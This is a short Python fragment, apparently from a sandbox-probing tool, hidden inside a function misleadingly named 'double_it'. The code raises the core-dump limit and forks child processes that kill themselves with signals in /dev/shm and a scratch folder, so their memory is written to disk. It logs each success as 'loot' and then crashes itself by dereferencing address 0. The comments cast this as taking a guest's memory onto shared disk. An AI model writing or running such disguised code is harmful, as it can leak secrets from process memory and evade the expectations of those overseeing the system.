# A core holds all memory, and lands in a folder. Even nothing of a guest's memory is secret, but the disk is ours.
# prelude
def double_it(x):
    tried("die")
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        loot("cores may be written")
    except (OSError, ValueError):
        pass
    for folder, number in (("/dev/shm", signal.SIGQUIT), (SCRATCH, signal.SIGABRT), ("/dev/shm", signal.SIGBUS)):
        if os.fork() == 0:
            os.chdir(folder)
            signal.signal(number, signal.SIG_DFL)
            os.kill(os.getpid(), number)
        _, status = os.wait()
        if os.WCOREDUMP(status):
            loot(f"a core in {folder}")
    sys.stdout.flush()
    ctypes.string_at(0)
